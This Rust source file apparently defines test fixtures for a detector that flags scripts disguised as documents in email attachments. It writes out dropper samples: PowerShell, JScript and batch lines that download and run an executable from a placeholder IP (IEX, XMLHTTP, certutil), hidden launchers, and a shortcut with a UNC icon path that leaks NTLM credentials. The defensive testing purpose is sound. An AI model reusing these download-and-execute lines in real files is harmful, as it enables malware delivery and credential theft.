//! Fixtures for scripts and shortcuts disguised as documents: each one is what a dropper mail
//! attaches (a PowerShell download cradle, a VBScript or JScript launcher, a batch file, a
//! Windows Script File, an Internet shortcut), renamed to an innocent extension so that only
//! detection by content catches it. Near-miss controls — prose that quotes a command, a CSV
//! with words like `Set` and `If` — must stay text.

use crate::fixture::Fixture;

fn crlf(lines: &[&str]) -> Vec<u8> {
    let mut s = lines.join("\r\n");
    s.push_str("\r\n");
    s.into_bytes()
}

/// Every script fixture.
pub fn fixtures() -> Vec<Fixture> {
    let ps1 = crlf(&[
        "$ErrorActionPreference = 'SilentlyContinue'",
        "$u = 'http://198.51.100.7/stage2.ps1'",
        "$wc = New-Object System.Net.WebClient",
        "IEX ($wc.DownloadString($u))",
    ]);
    // PowerShell ISE and Notepad save UTF-16LE with a byte-order mark.
    let ps1_utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(
            String::from_utf8_lossy(&crlf(&[
                "param([string]$Target = $env:TEMP)",
                "$b = [System.Convert]::FromBase64String('aGVsbG8=')",
                "[IO.File]::WriteAllBytes(\"$Target\\a.exe\", $b)",
                "Start-Process \"$Target\\a.exe\" -WindowStyle Hidden",
            ]))
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes()),
        )
        .collect();
    let vbs = crlf(&[
        "' invoice viewer",
        "Option Explicit",
        "Dim sh, fso",
        "Set sh = CreateObject(\"WScript.Shell\")",
        "Set fso = CreateObject(\"Scripting.FileSystemObject\")",
        "sh.Run \"cmd /c calc.exe\", 0, False",
    ]);
    let js = crlf(&[
        "var sh = new ActiveXObject(\"WScript.Shell\");",
        "var tmp = sh.ExpandEnvironmentStrings(\"%TEMP%\");",
        "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");",
        "x.open(\"GET\", \"http://198.51.100.7/a.exe\", false);",
        "x.send();",
        "sh.Run(tmp + \"\\\\a.exe\", 0);",
    ]);
    let bat = crlf(&[
        "@echo off",
        "setlocal",
        "set DEST=%APPDATA%\\Microsoft\\upd",
        "if not exist \"%DEST%\" mkdir \"%DEST%\"",
        "certutil -urlcache -split -f http://198.51.100.7/a.exe \"%DEST%\\a.exe\" >nul",
        "start \"\" /b \"%DEST%\\a.exe\"",
        "exit /b 0",
    ]);
    let wsf = crlf(&[
        "<?xml version=\"1.0\"?>",
        "<job id=\"invoice\">",
        "<script language=\"JScript\">",
        "new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\");",
        "</script>",
        "</job>",
    ]);
    let url = crlf(&[
        "[InternetShortcut]",
        "URL=file://198.51.100.7/share/invoice.exe",
        "IconFile=\\\\198.51.100.7\\share\\pdf.ico",
        "IconIndex=0",
    ]);
    let advisory = "注意喚起：不審なメールについて\r\n\r\n\
        最近、請求書を装ったメールが届いています。添付ファイルは開かないでください。\r\n\
        攻撃者は PowerShell の Invoke-Expression を使ってコードを実行します。\r\n\
        If you received such a message, then please forward it to the help desk.\r\n\
        Set the message aside and do not reply.\r\n\
        情報政策課\r\n";
    let csv = "区分,Set,If,Dim,Next\r\n1,予算,then,end,loop\r\n2,決算,set,sub,wend\r\n3,\"A, B\",goto,call,echo\r\n";
    vec![
        Fixture::dangerous(
            "ps1_download_cradle_renamed.txt",
            ps1,
            &["kind.script", "kind.mismatch"],
            "PowerShell download cradle (IEX + Net.WebClient) renamed .txt",
        ),
        Fixture::dangerous(
            "ps1_utf16le_dropper_renamed.txt",
            ps1_utf16,
            &["kind.script", "kind.mismatch"],
            "PowerShell dropper saved as UTF-16LE with a BOM, renamed .txt",
        ),
        Fixture::dangerous(
            "vbs_wscript_shell_renamed.txt",
            vbs,
            &["kind.script", "kind.mismatch"],
            "VBScript starting cmd through WScript.Shell, renamed .txt",
        ),
        Fixture::dangerous(
            "js_activexobject_downloader_renamed.txt",
            js,
            &["kind.script", "kind.mismatch"],
            "JScript downloader (ActiveXObject, MSXML2.XMLHTTP) renamed .txt",
        ),
        Fixture::dangerous(
            "bat_certutil_download_renamed.csv",
            bat,
            &["kind.script", "kind.mismatch"],
            "batch file downloading with certutil and starting the payload, renamed .csv",
        ),
        Fixture::dangerous(
            "wsf_jscript_job_renamed.xml",
            wsf,
            &["kind.script", "kind.mismatch"],
            "Windows Script File (a <job> running JScript), renamed .xml",
        ),
        Fixture::dangerous(
            "url_shortcut_unc_icon_renamed.txt",
            url,
            &["kind.shortcut", "kind.mismatch"],
            "Internet shortcut to a file: URL with a UNC icon path (NTLM leak), renamed .txt",
        ),
        Fixture::clean(
            "text_advisory_quoting_powershell.txt",
            advisory.as_bytes().to_vec(),
            "control: a Japanese/English advisory that names Invoke-Expression and starts lines with If/Set",
        ),
        Fixture::clean(
            "csv_script_keywords_as_data.csv",
            csv.as_bytes().to_vec(),
            "control: a CSV whose cells are words like Set, If, Dim, Next, goto",
        ),
    ]
}
